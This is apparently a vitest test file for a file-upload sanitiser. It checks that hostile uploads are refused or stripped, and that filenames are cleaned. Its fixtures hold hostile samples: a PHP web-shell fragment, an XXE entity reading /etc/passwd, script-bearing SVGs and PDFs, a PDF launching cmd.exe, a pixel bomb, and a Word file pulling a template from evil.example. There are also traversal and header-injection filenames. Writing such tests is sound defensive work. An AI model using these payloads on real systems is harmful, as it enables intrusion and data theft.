import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import { Refused } from '#kernel/verdict.ts';
import { acceptUpload, mostUploadBytes } from '#platform/upload.ts';
import { writeSheet } from '#platform/print/sheet.ts';
import { storeZip } from '#platform/print/zip.ts';

const codeOf = (bytes: Uint8Array, name = '照片.jpg'): Promise<string> => acceptUpload(bytes, name).then(({ mediaType }) => mediaType, (error: unknown) => {
  if (error instanceof Refused) return error.refusal.code;
  throw error;
});
const plain = (size = 60) => sharp({ create: { width: size, height: size, channels: 3, background: { r: 20, g: 90, b: 60 } } });
const jpeg = await plain().withExif({ IFD0: { Copyright: 'who-took-it' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 15/1 0/1' } }).jpeg().toBuffer();
const script = Buffer.from('<script>alert(1)</script><?php system($_GET[0]); ?>*/=alert(1);/*');
const pdf = (body: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
const packed = deflateSync(Buffer.from('1 0 << /S /JavaScript /JS (app.alert(1)) >>'));
const packedPdf = Buffer.concat([Buffer.from(`%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`), packed, Buffer.from('\nendstream\nendobj\n%%EOF\n')]);

/** Everything that has harmed other systems, and what becomes of it here. */
const refused: Readonly<Record<string, Uint8Array>> = {
  'SVG with a script': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'SVG that begins like XML': Buffer.from('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'),
  'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a web page that calls itself a picture': Buffer.concat([Buffer.from('GIF89a'), script]),
  'GIF and script at once': Buffer.from('GIF89a=1;alert(1);//'),
  'a real GIF': await plain().gif().toBuffer(),
  'a TIFF': await plain().tiff().toBuffer(),
  'a program': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
  'a program of Linux': Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(200)]),
  'a zip of anything': Buffer.from('PK\u0003\u0004\u0014\u0000\u0000\u0000', 'latin1'),
  'nothing at all': Buffer.alloc(0),
  'one byte': Buffer.from('x'),
  'a picture cut off': jpeg.subarray(0, jpeg.length / 2),
  'a head of a picture and then noise': Buffer.concat([jpeg.subarray(0, 30), Buffer.alloc(4000, 7)]),
  'a picture of 144 megapixels in a few kilobytes': await pixelBomb(),
  'a PDF with a script': pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  'a PDF whose script is written in code points': pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
  'a PDF with a script in a packed part': packedPdf,
  'a PDF that starts a program': pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  'a PDF with a file in it': pdf('/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>'),
  'PDF and script at once': Buffer.concat([Buffer.from('/*'), pdf('/JS (1)')]),
  'an Excel workbook that says it unpacks to 300 MB': bigSheet(),
  'a Word file with macros': letterDocx({ 'word/vbaProject.bin': Buffer.from('macro') }),
  'a Word file that fetches its template from elsewhere': letterDocx({ 'word/_rels/settings.xml.rels': Buffer.from('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>') }),
};

test.each(Object.entries(refused))('refused with a sentence: %s', async (_, bytes) => {
  expect(await codeOf(bytes)).toBe('platform.badFile');
});

test('too big is said to be too big', async () => {
  expect(await codeOf(Buffer.concat([jpeg, Buffer.alloc(mostUploadBytes)]))).toBe('platform.tooLarge');
});

test.each([['JPEG with a page behind it', Buffer.concat([jpeg, script])], ['PNG with a script in a comment', await plain().png().withMetadata({ exif: { IFD0: { ImageDescription: script.toString() } } }).toBuffer()], ['WebP', await plain().webp().toBuffer()]])('drawn anew, so that nothing but the picture is left: %s', async (_, bytes) => {
  const { bytes: kept, mediaType } = await acceptUpload(bytes, 'x.php');
  const { exif, xmp, icc, iptc, format } = await sharp(kept).metadata();
  expect({ mediaType, format, exif, xmp, iptc, icc }).toEqual({ mediaType: 'image/jpeg', format: 'jpeg', exif: undefined, xmp: undefined, iptc: undefined, icc: undefined });
  for (const word of ['script', 'php', 'who-took-it', 'GPS']) expect(Buffer.from(kept).includes(word), word).toBe(false);
});

test.each([
  ['PDF', pdf(''), 'application/pdf'], ['Excel', await writeSheet({ name: '表', columns: [{ header: '一' }], rows: [['1']] }), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['Word', letterDocx({}), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
] as const)('what people really send is taken: %s', async (_, bytes, mediaType) => {
  expect(await codeOf(bytes, '材料')).toBe(mediaType);
});

test.each([
  ['../../etc/passwd', 'passwd.jpg'], ['C:\\windows\\a.exe', 'a.jpg'], ['照片\u202egpj.exe', '照片gpj.jpg'], ['a\u0000.php', 'a.jpg'], ['<img src=x onerror=alert(1)>.jpg', 'img srcx onerroralert1.jpg'],
  ['"; filename="x.html', 'filenamex.jpg'], ['.htaccess', 'file.jpg'], ['', 'file.jpg'], ['con', 'con.jpg'], ['x'.repeat(300), `${'x'.repeat(60)}.jpg`], ['\r\nSet-Cookie: a=b', 'Set-Cookie ab.jpg'],
])('of the name %j a harmless label is kept', async (given, kept) => {
  expect((await acceptUpload(jpeg, given)).name).toBe(kept);
});

/** 12,000 × 12,000 black points. */
async function pixelBomb(): Promise<Buffer> {
  return sharp({ create: { width: 12_000, height: 12_000, channels: 3, background: { r: 0, g: 0, b: 0 } }, limitInputPixels: false }).png({ compressionLevel: 9 }).toBuffer();
}

function bigSheet(): Uint8Array {
  const zip = Buffer.from(storeZip(new Map([['[Content_Types].xml', Buffer.from('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')], ['xl/workbook.xml', Buffer.from('<workbook/>')]])));
  const table = zip.lastIndexOf('PK\u0001\u0002');
  zip.writeUInt32LE(300_000_000, table + 24);
  return zip;
}

/** A Word file of one line, with whatever parts a test puts into it. */
function letterDocx(more: Readonly<Record<string, Buffer>>): Uint8Array {
  return storeZip(new Map(Object.entries({
    '[Content_Types].xml': Buffer.from('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
    'word/document.xml': Buffer.from('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'), ...more,
  })));
}
